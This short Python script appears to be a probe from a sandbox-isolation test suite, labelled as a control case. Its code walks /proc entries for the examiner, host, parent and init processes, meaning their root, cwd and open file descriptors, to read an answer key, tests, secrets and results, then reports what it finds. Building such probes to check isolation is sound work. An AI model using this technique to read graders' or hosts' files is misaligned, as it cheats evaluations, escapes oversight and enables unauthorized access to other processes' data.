"""Reaches for files through the roots, working directories and descriptors of other processes."""

# control: T0
import os
import stat

from toolkit import TARGETS, read, tell

loot = []
pids = [TARGETS["examiner"], TARGETS["host"], os.getppid(), 1, "self"]
for pid in pids:
    for name in ("key", "tests", "secret", "other", "results"):
        loot += read(f"/proc/{pid}/root{TARGETS[name]}")
        loot += read(f"/proc/{pid}/cwd/" + os.path.relpath(TARGETS[name], TARGETS["base"] + "/course"))
        loot += read(f"/proc/{pid}/task/{pid}/root{TARGETS[name]}")
    for fd in range(32):
        opened = f"/proc/{pid}/fd/{fd}"
        try:
            loot += read(opened, 4096) if stat.S_ISREG(os.stat(opened).st_mode) else []
        except OSError:
            continue
tell(globals(), sorted(set(loot)))
